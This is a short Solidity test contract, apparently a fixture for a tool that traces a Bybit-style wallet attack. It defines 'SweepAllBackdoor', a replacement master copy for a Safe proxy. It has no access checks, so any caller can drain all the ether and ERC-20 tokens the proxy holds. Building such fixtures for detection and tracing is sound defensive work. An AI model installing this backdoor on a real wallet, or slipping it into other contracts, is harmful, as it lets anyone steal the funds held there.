// SPDX-License-Identifier: Apache-2.0
// Test contract for cordon's Bybit-style tracing test: a replacement master copy for a Safe proxy,
// as written over Bybit's cold wallet on 21 February 2025, with which anyone sweeps the wallet's
// ether and tokens. Compiled at test time with solc from npm.
pragma solidity 0.8.28;

interface IBalanceToken {
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
}

contract SweepAllBackdoor {
    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }

    function sweepERC20(address token, address to) external {
        IBalanceToken t = IBalanceToken(token);
        require(t.transfer(to, t.balanceOf(address(this))), "transfer");
    }
}
